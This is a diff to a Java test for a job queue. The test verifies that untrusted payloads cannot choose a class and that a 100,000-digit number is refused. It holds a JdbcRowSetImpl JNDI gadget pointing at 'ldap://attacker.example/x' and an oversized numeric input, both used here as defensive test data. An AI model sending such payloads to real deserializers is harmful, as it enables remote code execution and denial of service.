@@ -1310,14 +1310,18 @@ class InProcessWorkerTest {
     @DisplayName("a payload cannot choose a class: '@class' in an Object or Map field binds to a map, and a "
             + "100 000-digit number for a BigDecimal is refused at once, before any parsing of its digits")
     void untrustedPayloadsChooseNoClassAndAreBounded() {
-        JobQueue jobs = queue(memoryProvider(Map.of()), 1, Duration.ofSeconds(5));
+        var provider = memoryProvider(Map.of());
+        JobQueue jobs = queue(provider, 1, Duration.ofSeconds(5));
         var bound = new java.util.concurrent.CopyOnWriteArrayList<Untyped>();
         jobs.registerJobHandler("untyped", Untyped.class, (job, ctx) -> bound.add(job.payload()));
         jobs.start();
         Map<String, Object> gadget = Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                 "dataSourceName", "ldap://attacker.example/x", "autoCommit", true);
         jobs.enqueue("untyped", Map.of("data", gadget, "meta", Map.of("x", gadget), "amount", "1.5"));
-        String huge = jobs.enqueue("untyped", Map.of("amount", new java.math.BigDecimal("9".repeat(100_000))));
+        // As another producer sends it: enqueue refuses a payload its mapper cannot read back (PayloadBindingTest).
+        String huge = "huge-amount";
+        provider.enqueue(new JobEnvelope(1, huge, "untyped", "{\"amount\":" + "9".repeat(100_000) + "}",
+                JobOptions.defaults(), 0, Instant.now(), null, null), Duration.ZERO);
 
         JobEvent.Dead dead = events.awaitCount(JobEvent.Dead.class, 1).get(0);
         events.awaitCount(JobEvent.Completed.class, 1);
